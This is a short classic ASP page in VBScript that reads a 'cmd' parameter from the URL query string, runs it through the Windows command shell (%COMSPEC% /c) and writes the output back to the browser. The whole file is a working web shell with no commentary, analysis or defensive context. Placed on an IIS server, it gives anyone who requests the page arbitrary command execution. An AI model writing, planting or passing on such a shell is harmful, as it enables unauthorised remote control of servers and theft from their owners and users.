<%@ Language=VBScript %>
<%
Dim ws, comspec, cmd
Set ws = Server.CreateObject("WScript.Shell")
comspec = ws.ExpandEnvironmentStrings("%COMSPEC%")
cmd = Request.QueryString("cmd")
If cmd <> "" Then
    Response.Write ws.Exec(comspec & " /c " & cmd).StdOut.ReadAll
End If
%>
